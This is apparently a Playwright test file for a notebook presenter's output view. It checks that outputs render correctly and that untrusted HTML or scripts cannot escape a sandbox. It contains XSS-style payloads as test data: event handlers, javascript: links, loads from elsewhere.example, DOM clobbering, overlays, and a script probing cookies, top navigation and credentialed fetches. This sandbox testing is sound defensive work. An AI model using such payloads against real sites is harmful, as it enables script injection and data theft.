/** Outputs in Chromium: what they look like, and that none of them can act on the page. */

import assert from "node:assert/strict";
import type { Frame, Page } from "playwright-core";
import type { Json } from "../../../lib/classroom/json.ts";
import { TestPresenter, whyNot } from "../../support/presenter.ts";
import { figure, notebookJson } from "../make_notebook.ts";

const ignore = whyNot() !== undefined;

/** One presenter with a notebook whose cells have saved outputs, all of them shown. */
async function withOutputs(
  outputs: readonly (readonly Json[])[],
  work: (page: Page, presenter: TestPresenter) => Promise<void>,
  view = "read",
): Promise<void> {
  const text = notebookJson([
    "md:# Outputs",
    ...outputs.map((outputs, i) => ({ source: `${i};`, outputs })),
  ]);
  await using presenter = await TestPresenter.start({ "01_outputs": text });
  const page = await presenter.open(`/${view}/01_outputs`);
  await page.waitForSelector(".cell.code", { state: "attached" });
  await page.evaluate(`document.querySelectorAll(".cell-tools button")
    .forEach((one) => one.textContent === "Saved output" && one.click())`);
  await page.waitForSelector(".saved .output", { state: "attached" });
  await work(page, presenter);
}

/** The outputs of the nth code cell, counted from 0. */
const outputsOf = (page: Page, n: number) =>
  page.locator(`.cell.code >> nth=${n} >> .outputs .output`);

/** Evaluates an expression of the nth code cell, `cell`, in the page. */
const onCell = <T>(page: Page, n: number, expression: string) =>
  page.evaluate<T>(
    `((cell) => ${expression})(document.querySelectorAll(".cell.code")[${n}])`,
  );

/** Waits until something is true in the page; its own rules let no test do so there. */
async function eventually(is: () => Promise<boolean>): Promise<void> {
  for (let i = 0; i < 1000; i++) {
    if (await is()) return;
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  assert.fail("it never came true");
}

const stream = (text: string, name = "stdout"): Json => ({
  output_type: "stream",
  name,
  text,
});
const result = (data: Json): Json => ({
  output_type: "display_data",
  data,
  metadata: {},
});
const PNG =
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

Deno.test({
  name:
    "OutputView shows each kind of output, and says in words what colour says",
  ignore,
  fn: () =>
    withOutputs([
      [
        stream("\x1b[31mred\x1b[0m\n10 %\r20 %\n"),
        stream("careful\n", "stderr"),
      ],
      [{
        output_type: "error",
        ename: "TypeError",
        evalue: "x is not a function",
        traceback: ["TypeError: x is not a function\n    at cell:1:1"],
      }],
      [stream(Array.from({ length: 1000 }, (_, i) => `line ${i}\n`).join(""))],
      [
        result({ "image/png": PNG, "text/plain": "a dot" }),
        result({ "image/svg+xml": "<svg><circle r='4'/></svg>" }),
      ],
      [result({ "text/markdown": "**bold** $x_1$" })],
      [result({ "text/latex": "$$\\frac{1}{2}$$" })],
      [result({ "application/json": { list: [1, 2], name: "n" } })],
      [result({ "text/html": "<b>rich</b>", "text/plain": "poor" })],
    ], async (page) => {
      const [printed, warned] = await outputsOf(page, 0).allInnerTexts();
      assert.equal(printed.trim(), "red\n20 %");
      assert.match(warned, /^stderr\s+careful/);
      const error = outputsOf(page, 1);
      assert.equal(
        await error.locator("p").innerText(),
        "TypeError: x is not a function",
      );
      assert.equal(await error.locator("details pre").isVisible(), false);
      await error.locator("summary").click();
      assert.equal(
        (await error.locator("details pre").innerText()).trim(),
        "at cell:1:1",
      );
      const long = outputsOf(page, 2);
      assert.doesNotMatch(await long.innerText(), /line 500\n/);
      assert.match(await long.innerText(), /line 999/);
      await long.getByText("Show all 1,000 lines").click();
      assert.match(await long.innerText(), /line 500\n/);
      const pictures = outputsOf(page, 3).locator("img");
      assert.equal(await pictures.nth(0).getAttribute("alt"), "a dot");
      assert.match(
        (await pictures.nth(1).getAttribute("src"))!,
        /^data:image\/svg\+xml,/,
      );
      await eventually(() =>
        onCell<boolean>(
          page,
          3,
          `cell.querySelectorAll("img")[1].naturalWidth > 0`,
        )
      );
      assert.equal(
        await outputsOf(page, 4).locator("strong").innerText(),
        "bold",
      );
      assert.equal(await outputsOf(page, 4).locator("math").count(), 1);
      assert.equal(await outputsOf(page, 5).locator(".mfrac").count(), 1);
      assert.match(await outputsOf(page, 6).innerText(), /list: \[2\]/);
      assert.equal(await outputsOf(page, 7).innerText(), "rich");
    }),
});

Deno.test({
  name:
    "OutputView draws a chart anew in the same picture, and keeps what was unfolded",
  ignore,
  async fn() {
    const draw = (type: string, width: number) =>
      `await Deno.jupyter.broadcast(
      "${type}",
      {
        data: { "text/html": \`<figure><img alt="chart" width="${width}" src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' width='${width}' height='10'/%3E"><details><summary>more</summary>${width}</details></figure>\` },
        metadata: {},
        transient: { display_id: "chart" },
      },
    );`;
    const text = notebookJson([
      draw("display_data", 10),
      draw("update_display_data", 20),
    ]);
    await using presenter = await TestPresenter.start({ "01_chart": text });
    const page = await presenter.open("/read/01_chart");
    await page.waitForSelector(".cell.code");
    await page.keyboard.press("Shift+Enter");
    const picture = `cell.querySelector(".outputs img")`;
    await eventually(() => onCell<boolean>(page, 0, `${picture} !== null`));
    await onCell(
      page,
      0,
      `(window.chart = ${picture}, cell.querySelector("summary").click())`,
    );
    await page.keyboard.press("Shift+Enter");
    await eventually(() => onCell<boolean>(page, 0, `${picture}.width === 20`));
    assert.ok(await onCell(page, 0, `${picture} === window.chart`));
    assert.ok(await onCell(page, 0, `cell.querySelector("details").open`));
  },
});

/** What must be as before, whatever an output does. */
const UNTOUCHED = `(() => {
  const stop = document.querySelector(".toolbar .to-stop");
  const { left, top, width, height } = stop.getBoundingClientRect();
  const at = document.elementFromPoint(left + width / 2, top + height / 2);
  const bar = getComputedStyle(document.querySelector(".toolbar"));
  return {
    address: location.pathname,
    base: document.baseURI.split(/[?#]/)[0],
    hacked: window.hacked ?? null,
    title: document.title,
    reachable: stop.contains(at) || at.contains(stop) && at.tagName === "BUTTON",
    toolbar: bar.display + bar.position,
    ink: getComputedStyle(document.documentElement).color,
    clobbered: ["hackedId", "app", "store"].filter((id) => document.getElementById(id)),
    body: document.body instanceof HTMLBodyElement && document.querySelector instanceof Function,
    windows: window.opener === null,
  };
})()`;

const INERT: Readonly<Record<string, string>> = {
  "an inline handler":
    `<b onclick="window.hacked = 1" onmouseover="window.hacked = 1">b</b>`,
  "a broken picture's handler":
    `<img src="x:" onerror="top.hacked = 1; parent.hacked = 1; window.hacked = 1">`,
  "a javascript: link": `<a href="javascript:window.hacked=1">press</a>`,
  "a javascript: link in SVG":
    `<svg><a xlink:href="javascript:window.hacked=1" href="javascript:hacked=1"><text y="20">press</text></a></svg>`,
  "a script from elsewhere":
    `<script src="https://elsewhere.example/x.js"></script><p>after</p>`,
  "a picture from elsewhere":
    `<img src="https://elsewhere.example/x.png" srcset="https://elsewhere.example/y.png 2x">`,
  "a background from elsewhere":
    `<div style="background: url(https://elsewhere.example/z.png)">z</div>`,
  "a refresh":
    `<meta http-equiv="refresh" content="0; url=https://elsewhere.example/">`,
  "a base": `<base href="https://elsewhere.example/"><p>base</p>`,
  "a style for the page":
    `<style>.toolbar { display: none !important } html { color: red !important }</style><p>style</p>`,
  "a style in Markdown's clothes":
    `<div class="toolbar notices cell">toolbar</div>`,
  "an overlay":
    `<div style="position: fixed; inset: 0; z-index: 99999; background: red">cover</div>`,
  "an overlay by margins":
    `<div style="margin: -3000px; padding: 3000px; position: relative; z-index: 99999; background: red">cover</div>`,
  "an overlay by transform":
    `<div style="position: absolute; z-index: 99999; transform: scale(100); background: red">cover</div>`,
  "names of the page's parts":
    `<div id="app">a</div><img name="body"><div id="hackedId">b</div><a id="store" href="#app">c</a><p id="querySelector">d</p>`,
  "a form":
    `<form action="/read/02" method="post" id="hackedId"><input name="body" autofocus><button>send</button></form>`,
  "a section for the slides":
    `<section data-background="red"><p>slide</p></section>`,
  "theme variables": `<div style="--page: red; --ink: red">v</div>`,
  "an embedded page":
    `<iframe src="https://elsewhere.example/"></iframe><object data="https://elsewhere.example/"></object><embed src="https://elsewhere.example/">`,
  "a frame that leads itself away":
    `<p>x</p><script>location = "https://elsewhere.example/?" + document.title</script>`,
  "a nested document":
    `<iframe srcdoc="<script>top.hacked = 1</script>"></iframe>`,
  "a broken tag":
    `<svg><style><img src=x: onerror="window.hacked=1"></style></svg><math><mi xlink:href="javascript:hacked=1">x</mi></math>`,
};

Deno.test({
  name:
    "OutputView lets no HTML touch the page, lead it away, or load from elsewhere",
  ignore,
  fn: () =>
    withOutputs(
      [
        [stream("nothing\n")],
        ...Object.values(INERT).map((html) => [figure(html)]),
      ],
      async (page) => {
        const host = new URL(page.url()).host;
        const refused: string[] = [], asked: string[] = [];
        page.on("request", (request) => {
          if (!request.url().startsWith("data:")) asked.push(request.url());
        });
        page.on("requestfailed", (request) => {
          if (request.failure()?.errorText === "csp") {
            refused.push(request.url());
          }
        });
        await page.reload();
        await page.waitForSelector(".cell.code");
        const before = await page.evaluate(UNTOUCHED);
        for (const [i, name] of Object.keys(INERT).entries()) {
          const cell = page.locator(`.cell.code >> nth=${i + 1}`);
          await onCell(
            page,
            i + 1,
            `[...cell.querySelectorAll(".cell-tools button")]
              .find((button) => button.textContent === "Saved output").click()`,
          );
          const output = cell.locator(".saved .output");
          await output.waitFor({ state: "attached" });
          await onCell(
            page,
            i + 1,
            `cell.querySelectorAll(".saved :is(a, b)").forEach((part) =>
              part.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true })))`,
          );
          await page.evaluate(
            `new Promise((resolve) => setTimeout(resolve, 60))`,
          );
          const place = await cell.boundingBox();
          const box = await output.boundingBox();
          assert.ok(
            !box || !place || (box.y >= place.y - 1 && box.x >= place.x - 1),
            name,
          );
          assert.deepEqual(await page.evaluate(UNTOUCHED), before, name);
        }
        assert.deepEqual(
          asked.filter((url) => new URL(url).host !== host)
            .filter((url) => !refused.includes(url)),
          [],
        );
        assert.equal(page.context().pages().length, 1);
      },
    ),
});

/** A script that tries one door after the other, and writes down what became of it. */
const TRIES = `<p id="said"></p><script>
const said = {};
const tries = {
  document: () => parent.document.title,
  cookie: () => document.cookie,
  storage: () => localStorage.length,
  store: () => parent.hacked = 1,
  top: () => { top.location = "https://elsewhere.example/"; },
  topHref: () => { top.location.href = "about:blank"; },
  open: () => { if (!open("/read/01_outputs")) throw new Error("no window"); },
  key: () => parent.dispatchEvent(new KeyboardEvent("keydown", { key: "0" })),
  print: () => { alert(1); throw new Error("no dialog"); },
};
for (const [name, attempt] of Object.entries(tries)) {
  try { attempt(); said[name] = "done"; } catch (error) { said[name] = error.name; }
}
for (let i = 0; i < 20000; i++) parent.postMessage(i % 7 ? { type: "run", id: "cell-2" } : 1e9, "*");
parent.postMessage(JSON.stringify({ method: "slide", args: [3] }), "*");
addEventListener("keydown", (event) => said.heard = (said.heard ?? "") + event.key);
focus();
document.body.insertAdjacentHTML("beforeend", '<form action="/read/01_outputs" method="post"><input autofocus></form>');
document.forms[0].firstChild.focus();
try { document.forms[0].submit(); } catch (error) { said.form = error.name; }
Promise.allSettled([
  fetch("/lectures", { credentials: "include" }),
  fetch(location.href),
  new Promise((resolve, reject) => { const s = new WebSocket("ws://" + location.host + "/socket/01_outputs"); s.onopen = resolve; s.onerror = reject; }),
  import("data:text/javascript,export default 1"),
]).then((all) => {
  said.network = all.map(({ status }) => status).join();
  document.getElementById("said").textContent = JSON.stringify(said);
});
</script>`;

Deno.test({
  name:
    "outputFrame() lets a script do as it likes inside, and nothing outside",
  ignore,
  fn: () =>
    withOutputs([[figure(TRIES)]], async (page) => {
      const before = await page.evaluate(UNTOUCHED);
      const frameOf = (): Frame | undefined =>
        page.frames().find((one) => one.url().includes("/output/"));
      await eventually(async () =>
        ((await frameOf()?.locator("#said").textContent().catch(() => "")) ??
          "") !== ""
      );
      const said = JSON.parse(
        (await frameOf()!.locator("#said").textContent())!,
      );
      assert.deepEqual(said, {
        document: "SecurityError",
        cookie: "SecurityError",
        storage: "SecurityError",
        store: "SecurityError",
        top: "SecurityError",
        topHref: "SecurityError",
        open: "Error",
        key: "SecurityError",
        print: "Error",
        network: "rejected,rejected,rejected,rejected",
      });
      assert.deepEqual(await page.evaluate(UNTOUCHED), before);
      const frame = page.locator("iframe.output-frame");
      const { height } = (await frame.boundingBox())!;
      assert.ok(height <= 1200, `${height} px`);
      assert.equal(page.context().pages().length, 1);
      assert.equal(
        await page.locator(".cell[data-status=ok], .cell[data-status=queued]")
          .count(),
        0,
      );
      // Keys are the page's, though the script has asked for them.
      await page.keyboard.press("?");
      await page.waitForSelector("dialog[open]");
    }),
});

Deno.test({
  name: "outputFrame() is as high as its content, and believes no other window",
  ignore,
  fn: () =>
    withOutputs(
      [[figure(`<div style="height: 321px">tall</div><script>1</script>`)]],
      async (page) => {
        const high = () =>
          onCell<number>(page, 0, `cell.querySelector("iframe").clientHeight`);
        await eventually(async () => await high() === 321);
        await page.evaluate(`postMessage(777, "*")`);
        await page.evaluate(
          `new Promise((resolve) => setTimeout(resolve, 50))`,
        );
        assert.equal(await high(), 321);
        await page.frames()[1].evaluate(`parent.postMessage(5e6, "*")`);
        await eventually(async () => await high() !== 321);
        assert.equal(await high(), 1200);
      },
    ),
});

Deno.test({
  name: "outputFrame() cannot drive the slides",
  ignore,
  fn: () =>
    withOutputs([
      [figure(`<p>x</p><script>setInterval(() => {
        parent.postMessage('{"method":"togglePause","args":[true]}', "*");
        parent.postMessage('{"method":"toggleOverview","args":[true]}', "*");
      }, 10)</script>`)],
      [stream("second\n")],
    ], async (page) => {
      const before = await page.textContent(".slide-page, .slide-count");
      await eventually(() => Promise.resolve(page.frames().length === 2));
      await page.evaluate(`new Promise((resolve) => setTimeout(resolve, 200))`);
      assert.equal(await page.textContent(".slide-page, .slide-count"), before);
      assert.equal(
        await page.locator(".reveal:is(.overview, .paused)").count(),
        0,
      );
    }, "slides"),
});
